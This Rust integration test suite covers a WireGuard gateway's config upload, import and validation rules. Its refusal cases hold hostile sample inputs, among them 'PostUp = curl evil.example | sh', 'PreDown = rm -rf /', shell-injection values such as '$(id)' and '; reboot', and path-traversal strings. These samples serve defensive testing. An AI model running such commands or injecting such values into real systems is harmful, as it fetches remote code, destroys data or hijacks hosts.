//! Client uploads, the subnet prompt, CRUD, import: the gateway's admission rules,
//! checked through the API with real files on disk. Every refusal also checks that nothing was
//! written: no file in the WireGuard directory, no client row.

use std::os::unix::fs::PermissionsExt;

use peergate_core::account::Role;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::support::fixtures::{PEER_KEY, PRIVATE_KEY, conf, conf_with};
use crate::support::{Caller, TestApp, admin_app, assert_problem};

async fn assert_nothing_written(app: &TestApp) {
    assert_eq!(app.wg_files(), Vec::<String>::new(), "the WireGuard directory must stay empty");
    assert_eq!(app.client_count().await, 0);
}

#[tokio::test]
async fn a_split_tunnel_upload_becomes_a_client_with_a_private_rendered_file() {
    let (app, admin) = admin_app().await;
    let res = admin.upload("site-a.conf", conf_with("10.77.0.0/24", "DNS = 1.1.1.1\nSaveConfig = true"), &[]).await;
    assert_eq!(res.status(), 201);
    let client: Value = res.json().await.unwrap();
    assert_eq!(client["name"], "site-a");
    assert_eq!(client["interface"], "site-a");
    assert_eq!(client["subnets"], json!(["10.77.0.0/24"]));
    assert_eq!(client["probe_host"], "10.77.0.1");
    assert_eq!(client["state"], "inactive");
    assert_eq!(client["endpoint"], "192.0.2.10:51820");
    assert_eq!(client["peer_public_keys"], json!([PEER_KEY]));
    let codes: Vec<&str> = client["warnings"].as_array().unwrap().iter().map(|w| w["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["dns_dropped", "save_config_dropped"]);

    let path = app.wg_dir().join("site-a.conf");
    assert_eq!(app.wg_files(), ["site-a.conf"]);
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::metadata(app.wg_dir()).unwrap().permissions().mode() & 0o777, 0o700);
    let written = std::fs::read_to_string(&path).unwrap();
    assert!(written.contains(PRIVATE_KEY), "wg-quick needs the key in its file");
    for gone in ["DNS", "SaveConfig", "# site A"] {
        assert!(!written.contains(gone), "{gone} must not reach the rendered file:\n{written}");
    }

    // The private key appears nowhere else: not in the API, not in the database.
    let id = client["id"].as_i64().unwrap();
    let detail = admin.get(&format!("/api/clients/{id}")).await;
    let text = detail.text().await.unwrap();
    assert!(!text.contains(PRIVATE_KEY), "{text}");
    let detail: Value = serde_json::from_str(&text).unwrap();
    assert!(detail["conf"].as_str().unwrap().contains("PrivateKey = (redacted)"), "{detail}");
    let routes = &detail["route_commands"][0];
    assert_eq!(routes["subnet"], "10.77.0.0/24");
    assert_eq!(routes["commands"]["linux"], "ip route add 10.77.0.0/24 via 10.201.0.1");
    assert_eq!(routes["commands"]["windows"], "route -p add 10.77.0.0 mask 255.255.255.0 10.201.0.1");
    assert!(routes["commands"]["macos"].as_str().unwrap().contains("route -n add -net 10.77.0.0/24 10.201.0.1"));
    assert!(routes["commands"]["routeros"].as_str().unwrap().contains("dst-address=10.77.0.0/24"));
    assert!(routes["commands"]["openwrt"].as_str().unwrap().contains("uci"));
    let dump = dump_database(&app).await;
    assert!(!dump.contains(PRIVATE_KEY), "the database must not hold the private key");

    let actions = app.db_audit_actions().await;
    assert!(actions.contains(&"client.create".to_string()), "{actions:?}");
}

/// Every text column of the tables a client touches, concatenated.
async fn dump_database(app: &TestApp) -> String {
    let mut out = String::new();
    for query in [
        "SELECT interface || display_name || notes || COALESCE(public_key, '') || conf_path || subnets || peer_public_keys \
         || endpoint || warnings FROM clients",
        "SELECT COALESCE(before, '') || COALESCE(after, '') FROM audit_events",
        "SELECT display_name || COALESCE(interface, '') || COALESCE(probe_host, '') || details FROM pending_uploads",
    ] {
        let rows: Vec<String> = sqlx::query_scalar(query).fetch_all(&app.db.pool).await.unwrap();
        out.push_str(&rows.join("\n"));
    }
    out
}

#[tokio::test]
async fn a_full_tunnel_upload_asks_for_the_subnet_and_then_becomes_a_client() {
    let (app, admin) = admin_app().await;
    let res = admin.upload("home.conf", conf("0.0.0.0/0, ::/0"), &[]).await;
    let problem = assert_problem(res, 422, "needs_subnet").await;
    assert!(problem["detail"].as_str().unwrap().contains("subnet"), "{problem}");
    let pending_id = problem["pending_id"].as_str().unwrap().to_string();
    assert_nothing_written(&app).await;
    assert!(!dump_database(&app).await.contains(PRIVATE_KEY));

    let complete = async |subnet: &'static str| {
        admin.post(&format!("/api/clients/pending/{pending_id}/subnet"), &json!({ "subnet": subnet })).await
    };
    // Hostile or malformed subnets are refused and the pending upload stays usable.
    for bad in ["10.77.0.0/24; reboot", "10.77.0.0/24\nPostUp = id", "10.77.0.1/24", "10.0.0.0/33", "0.0.0.0/0", "$(id)"] {
        let res = complete(bad).await;
        let body = assert_problem(res, 422, "invalid_subnet").await;
        assert_eq!(body["errors"][0]["field"], "subnet", "{bad}: {body}");
    }
    assert_problem(complete("10.201.0.0/25").await, 422, "subnet_overlap").await;
    assert_nothing_written(&app).await;

    let res = complete("10.77.0.0/24").await;
    assert_eq!(res.status(), 201);
    let client: Value = res.json().await.unwrap();
    assert_eq!(client["subnets"], json!(["10.77.0.0/24"]));
    let written = std::fs::read_to_string(app.wg_dir().join("home.conf")).unwrap();
    assert!(written.contains("AllowedIPs = 10.77.0.0/24"), "{written}");
    assert!(!written.contains("0.0.0.0/0"), "{written}");

    // The pending upload is used up.
    assert_problem(complete("10.78.0.0/24").await, 404, "not_found").await;
}

#[tokio::test]
async fn pending_uploads_expire_and_belong_to_their_uploader() {
    let (app, admin) = admin_app().await;
    app.create_user("other", Role::Admin).await;
    let other = app.caller(&app.token("other", None).await);
    let res = admin.upload("home.conf", conf("0.0.0.0/1, 128.0.0.0/1"), &[]).await;
    let pending_id = assert_problem(res, 422, "needs_subnet").await["pending_id"].as_str().unwrap().to_string();
    let complete = async |id: &str, who: &Caller| {
        who.post(&format!("/api/clients/pending/{id}/subnet"), &json!({ "subnet": "10.77.0.0/24" })).await
    };
    assert_problem(complete(&pending_id, &other).await, 404, "not_found").await;
    assert_problem(complete("..%2F..%2Fetc%2Fpasswd", &admin).await, 404, "not_found").await;
    assert_problem(complete(&"0".repeat(32), &admin).await, 404, "not_found").await;
    sqlx::query("UPDATE pending_uploads SET expires_at = 1").execute(&app.db.pool).await.unwrap();
    let res = complete(&pending_id, &admin).await;
    let body = assert_problem(res, 404, "not_found").await;
    assert!(body["detail"].as_str().unwrap().contains("expired"), "{body}");
    assert_nothing_written(&app).await;
}

/// An upload that must be refused: file name, contents, form fields, status, problem code.
type Refusal = (&'static str, Vec<u8>, Vec<(&'static str, &'static str)>, u16, &'static str);

fn refusals() -> Vec<Refusal> {
    let two_interfaces = format!("{}\n[Interface]\nPrivateKey = {PRIVATE_KEY}\nAddress = 10.9.0.2/32\n", conf("10.77.0.0/24"));
    let no_peer = format!("[Interface]\nPrivateKey = {PRIVATE_KEY}\nAddress = 10.204.0.2/32\n");
    let no_interface = format!("[Peer]\nPublicKey = {PEER_KEY}\nAllowedIPs = 10.77.0.0/24\nEndpoint = 192.0.2.10:51820\n");
    let mut junk = vec![0u8, 159, 146, 150, 0xff, 0xfe];
    junk.extend_from_slice(b"\x7fELF\x02\x01\x01");
    vec![
        ("a.conf", Vec::new(), vec![], 422, "parse_error"),
        ("a.conf", junk, vec![], 422, "not_text"),
        ("a.conf", b"[Interface]\nPrivateKey = caf\xe9\n".to_vec(), vec![], 422, "not_text"),
        ("a.conf", format!("{}#{}\n", conf("10.77.0.0/24"), "x".repeat(64 * 1024)).into_bytes(), vec![], 422, "file_too_large"),
        ("a.conf", no_interface.into_bytes(), vec![], 422, "parse_error"),
        ("a.conf", two_interfaces.into_bytes(), vec![], 422, "parse_error"),
        ("a.conf", no_peer.into_bytes(), vec![], 422, "parse_error"),
        (
            "a.conf",
            conf("10.77.0.0/24").replace(PEER_KEY, "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgIC").into_bytes(),
            vec![],
            422,
            "parse_error",
        ),
        ("a.conf", conf("10.77.0.0/24").replace(PRIVATE_KEY, "not base64 at all!").into_bytes(), vec![], 422, "parse_error"),
        ("a.conf", conf_with("10.77.0.0/24", "PostUp = curl evil.example | sh").into_bytes(), vec![], 422, "hook_refused"),
        ("a.conf", conf_with("10.77.0.0/24", "PreDown = rm -rf /").into_bytes(), vec![], 422, "hook_refused"),
        ("a.conf", conf_with("10.77.0.0/24", "Table = off").into_bytes(), vec![], 422, "table_refused"),
        ("a.conf", conf_with("10.77.0.0/24", "Colour = blue").into_bytes(), vec![], 422, "unknown_key"),
        ("a.conf", conf("10.0.0.0/33").into_bytes(), vec![], 422, "parse_error"),
        ("a.conf", conf("10.77.0.1/24").into_bytes(), vec![], 422, "parse_error"),
        ("a.conf", conf("10.201.0.0/16").into_bytes(), vec![], 422, "subnet_overlap"),
        ("a.conf", conf("192.0.2.0/24").into_bytes(), vec![], 422, "subnet_overlap"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("interface", "../../etc/x")], 422, "invalid_name"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("interface", "wg0;reboot")], 422, "invalid_name"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("interface", "sixteen-chars-xx")], 422, "invalid_name"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("interface", "all")], 422, "invalid_name"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("name", "site\u{202E}fdp.exe")], 422, "invalid_display_name"),
        ("x.conf", conf("10.77.0.0/24").into_bytes(), vec![("name", "site\nadmin logged in")], 422, "invalid_display_name"),
        ("..", conf("10.77.0.0/24").into_bytes(), vec![], 422, "validation_failed"),
        ("a.conf", conf("10.77.0.0/24").into_bytes(), vec![("probe_host", "10.99.0.1")], 422, "probe_host_outside_subnet"),
        ("a.conf", conf("10.77.0.0/24").into_bytes(), vec![("probe_host", "localhost; reboot")], 422, "invalid_probe_host"),
        ("a.conf", conf("10.77.0.0/24").into_bytes(), vec![("colour", "blue")], 422, "validation_failed"),
    ]
}

#[tokio::test]
async fn every_refusal_says_why_with_the_line_and_writes_nothing() {
    let (app, admin) = admin_app().await;
    for (file_name, body, fields, status, code) in refusals() {
        let res = admin.upload(file_name, body, &fields).await;
        let problem = assert_problem(res, status, code).await;
        let detail = problem["detail"].as_str().unwrap();
        if ["hook_refused", "unknown_key", "table_refused"].contains(&code) {
            assert!(detail.starts_with("line "), "{code}: the line must be named: {detail}");
            assert!(problem["errors"][0]["line"].as_u64().is_some(), "{problem}");
        }
        assert_nothing_written(&app).await;
    }
}

#[tokio::test]
async fn a_hostile_file_name_never_reaches_the_file_system() {
    let (app, admin) = admin_app().await;
    let outside = app.dir.path().join("x.conf");
    let res = admin.upload("../x.conf", conf("10.77.0.0/24"), &[]).await;
    assert_eq!(res.status(), 201);
    let client: Value = res.json().await.unwrap();
    assert_eq!(client["name"], "x", "only the base name is used");
    assert_eq!(app.wg_files(), ["x.conf"]);
    assert!(!outside.exists());
}

#[tokio::test]
async fn names_and_subnets_must_be_unique_and_concurrent_uploads_do_not_race() {
    let (app, admin) = admin_app().await;
    assert_eq!(admin.upload("site-a.conf", conf("10.77.0.0/24"), &[]).await.status(), 201);
    // The same display name twice is fine: the second gets the next free interface name.
    let again = admin.upload("site-a.conf", conf("10.78.0.0/24"), &[]).await;
    assert_eq!(again.status(), 201);
    let again: Value = again.json().await.unwrap();
    assert_eq!((again["name"].as_str(), again["interface"].as_str()), (Some("site-a"), Some("site-a-2")));
    // An interface name typed by hand must be free (without case: `SITE-A` would be another file).
    for typed in ["site-a", "SITE-A"] {
        let res = admin.upload("x.conf", conf("10.79.0.0/24"), &[("interface", typed)]).await;
        let body = assert_problem(res, 409, "name_taken").await;
        assert!(body["detail"].as_str().unwrap().contains("leave the field empty"), "{body}");
    }
    let body = assert_problem(admin.upload("site-b.conf", conf("10.77.0.128/25"), &[]).await, 422, "subnet_overlap").await;
    assert!(body["detail"].as_str().unwrap().contains("site-a"), "the conflict is named: {body}");
    // A host interface name is taken too: typed, it is refused; derived, it is skipped.
    assert_problem(admin.upload("x.conf", conf("10.79.0.0/24"), &[("interface", "lo")]).await, 409, "name_taken").await;
    let lo: Value = admin.upload("lo.conf", conf("10.79.0.0/24"), &[]).await.json().await.unwrap();
    assert_eq!(lo["interface"], "lo-2", "{lo}");
    // So is a file in the WireGuard directory that is not a client.
    std::fs::write(app.wg_dir().join("legacy.conf"), "[Interface]\n").unwrap();
    let legacy: Value = admin.upload("legacy.conf", conf("10.80.0.0/24"), &[]).await.json().await.unwrap();
    assert_eq!(legacy["interface"], "legacy-2", "{legacy}");
    std::fs::remove_file(app.wg_dir().join("legacy.conf")).unwrap();

    // Eight uploads at once with overlapping subnets and different names: exactly one wins.
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..8 {
        let admin = admin.clone();
        tasks.spawn(async move { admin.upload(&format!("race{i}.conf"), conf("10.90.0.0/24"), &[]).await.status().as_u16() });
    }
    let mut statuses = tasks.join_all().await;
    statuses.sort();
    assert_eq!(statuses, [201, 422, 422, 422, 422, 422, 422, 422]);
    assert_eq!(app.client_count().await, 5);
    let files = app.wg_files();
    assert_eq!(files.len(), 5, "one file per client, no leftovers: {files:?}");
    assert!(files.iter().all(|f| f.ends_with(".conf") && !f.starts_with('.')), "{files:?}");
}

#[tokio::test]
async fn uploads_need_an_admin_and_a_csrf_token_with_cookies() {
    let app = TestApp::spawn().await;
    app.create_user("admin", Role::Admin).await;
    app.create_user("op", Role::Operator).await;
    let op = app.caller(&app.token("op", None).await);
    let form = || Form::new().part("file", Part::bytes(conf("10.77.0.0/24").into_bytes()).file_name("a.conf"));

    let res = reqwest::Client::new().post(app.url("/api/clients/upload")).multipart(form()).send().await.unwrap();
    assert_problem(res, 401, "unauthenticated").await;
    assert_problem(op.upload("a.conf", conf("10.77.0.0/24"), &[]).await, 403, "forbidden").await;
    let csrf = app.login("admin").await;
    let res = app.client.post(app.url("/api/clients/upload")).multipart(form()).send().await.unwrap();
    assert_problem(res, 403, "csrf_failed").await;
    assert_eq!(app.wg_files(), Vec::<String>::new());
    let res =
        app.client.post(app.url("/api/clients/upload")).header("x-csrf-token", csrf).multipart(form()).send().await.unwrap();
    assert_eq!(res.status(), 201);
}

#[tokio::test]
async fn probe_host_changes_and_delete_removes_file_and_row() {
    let (app, admin) = admin_app().await;
    let id = admin.create_client("site-a", "10.77.0.0/24").await;
    let patch = async |probe: &'static str| admin.patch(&format!("/api/clients/{id}"), &json!({ "probe_host": probe })).await;

    assert_problem(patch("10.78.0.1").await, 422, "probe_host_outside_subnet").await;
    assert_problem(patch("not-an-ip").await, 422, "invalid_probe_host").await;
    let updated: Value = patch("10.77.0.10").await.json().await.unwrap();
    assert_eq!(updated["probe_host"], "10.77.0.10");

    let res = admin.delete(&format!("/api/clients/{id}")).await;
    assert_eq!(res.status(), 204);
    assert_nothing_written(&app).await;
    let res = admin.delete(&format!("/api/clients/{id}")).await;
    assert_problem(res, 404, "not_found").await;
    assert_problem(admin.get("/api/clients/abc").await, 400, "bad_path").await;
    let actions = app.db_audit_actions().await;
    for action in ["client.create", "client.update", "client.delete"] {
        assert!(actions.contains(&action.to_string()), "{action} missing: {actions:?}");
    }
    let list: Value = admin.json("/api/clients").await;
    assert_eq!(list, json!([]));
}

#[tokio::test]
async fn import_through_the_api_reports_per_file() {
    let (app, admin) = admin_app().await;
    std::fs::create_dir_all(app.wg_dir()).unwrap();
    std::fs::write(app.wg_dir().join("good.conf"), conf_with("10.77.0.0/24", "DNS = 9.9.9.9")).unwrap();
    std::fs::write(app.wg_dir().join("full.conf"), conf("0.0.0.0/0")).unwrap();
    std::fs::write(app.wg_dir().join("hook.conf"), conf_with("10.78.0.0/24", "PostUp = iptables -F")).unwrap();
    let res = admin.post("/api/clients/import", &json!({})).await;
    assert_eq!(res.status(), 200);
    let reports: Vec<Value> = res.json().await.unwrap();
    let outcomes: Vec<(String, String)> = reports
        .iter()
        .map(|r| {
            (r["file"].as_str().unwrap().rsplit('/').next().unwrap().to_string(), r["outcome"].as_str().unwrap().to_string())
        })
        .collect();
    assert_eq!(
        outcomes,
        [
            ("full.conf".into(), "needs_subnet".into()),
            ("good.conf".into(), "imported".into()),
            ("hook.conf".into(), "refused".into())
        ]
    );
    let hook = reports.iter().find(|r| r["code"] == "hook_refused").unwrap();
    assert!(hook["detail"].as_str().unwrap().starts_with("line "), "{hook}");
    // The imported file was replaced by peergate's rendering (DNS dropped); the refused ones are untouched.
    let good = std::fs::read_to_string(app.wg_dir().join("good.conf")).unwrap();
    assert!(!good.contains("DNS"), "{good}");
    assert!(std::fs::read_to_string(app.wg_dir().join("hook.conf")).unwrap().contains("PostUp"));

    let res = admin.post("/api/clients/import", &json!({"files": ["../../etc/passwd"]})).await;
    assert_problem(res, 422, "validation_failed").await;
    let res = admin.post("/api/clients/import", &json!({"files": ["full.conf"], "subnet": "10.80.0.0/16"})).await;
    let reports: Vec<Value> = res.json().await.unwrap();
    assert_eq!(reports[0]["outcome"], "imported", "{reports:?}");
    let res = admin.post("/api/clients/import", &json!({"files": ["good.conf"]})).await;
    let reports: Vec<Value> = res.json().await.unwrap();
    assert_eq!(reports[0]["outcome"], "skipped");
}

#[tokio::test]
async fn pending_uploads_list_when_they_were_uploaded() {
    let (_app, admin) = admin_app().await;
    let before = crate::support::now();
    let res = admin.upload("home.conf", conf("0.0.0.0/0"), &[]).await;
    let pending_id = assert_problem(res, 422, "needs_subnet").await["pending_id"].as_str().unwrap().to_string();
    let res = admin.get("/api/clients/pending").await;
    let list: Value = res.json().await.unwrap();
    assert_eq!(list[0]["id"], pending_id.as_str(), "{list}");
    let created_at = list[0]["created_at"].as_i64().unwrap();
    assert!((before..=crate::support::now()).contains(&created_at), "{list}");
    assert_eq!(list[0]["expires_at"].as_i64().unwrap(), created_at + 3600, "{list}");
}

#[tokio::test]
async fn the_database_refuses_a_client_state_outside_the_three() {
    let (app, admin) = admin_app().await;
    assert_eq!(admin.upload("site-a.conf", conf("10.77.0.0/24"), &[]).await.status(), 201);
    let refused = sqlx::query("UPDATE clients SET state = 'up'").execute(&app.db.pool).await;
    assert!(refused.is_err(), "a state outside inactive/active/failed was stored");
    let state: String = sqlx::query_scalar("SELECT state FROM clients").fetch_one(&app.db.pool).await.unwrap();
    assert_eq!(state, "inactive");
}
